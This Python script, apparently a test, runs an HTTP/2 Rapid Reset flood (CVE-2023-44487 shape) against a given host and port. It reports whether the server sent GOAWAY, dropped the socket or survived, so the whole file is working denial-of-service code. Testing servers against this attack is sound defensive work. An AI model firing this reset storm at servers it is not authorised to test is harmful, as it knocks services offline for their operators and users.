"""Rapid reset (CVE-2023-44487 shape) against an HTTP/2 server: open
streams and cancel them at once, as fast as the socket takes them.

`python3 tests/h2_reset_storm.py PYDEPS HOST PORT STREAMS` installs the
`h2` package from PyPI into PYDEPS once, then sends the storm on one
cleartext (prior-knowledge) connection and prints how it ended: `goaway`
(the server closed the connection with GOAWAY), `closed` (it dropped the
socket) or `survived` (every stream sent; the connection still open).
"""

import os
import socket
import subprocess
import sys


def main():
    pydeps, host, port, streams = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    if not os.path.isdir(os.path.join(pydeps, "h2")):
        subprocess.run([sys.executable, "-m", "pip", "install", "--quiet", "--disable-pip-version-check",
                        "--root-user-action=ignore", "--target", pydeps, "h2==4.*"], check=True)
    sys.path.insert(0, pydeps)
    import h2.config
    import h2.connection
    import h2.events

    sock = socket.create_connection((host, port))
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":path", "/sleep?0.2"), (":scheme", "http"), (":authority", f"{host}:{port}")]
    outcome = "survived"
    sock.settimeout(0.0)
    for i in range(streams):
        sid = conn.get_next_available_stream_id()
        try:
            conn.send_headers(sid, headers, end_stream=True)
            conn.reset_stream(sid)
        except Exception:  # the connection was closed on our side after GOAWAY
            outcome = "goaway"
            break
        try:
            sock.sendall(conn.data_to_send())
        except BlockingIOError:
            sock.settimeout(5.0)
            sock.sendall(conn.data_to_send())
            sock.settimeout(0.0)
        except OSError:
            outcome = "closed"
            break
        try:
            data = sock.recv(65536)
            if not data:
                outcome = "closed"
                break
            for ev in conn.receive_data(data):
                if isinstance(ev, h2.events.ConnectionTerminated):
                    outcome = "goaway"
        except BlockingIOError:
            pass
        except OSError:
            outcome = "closed"
            break
        if outcome != "survived":
            break
    sock.close()
    print(outcome, i + 1)


if __name__ == "__main__":
    main()
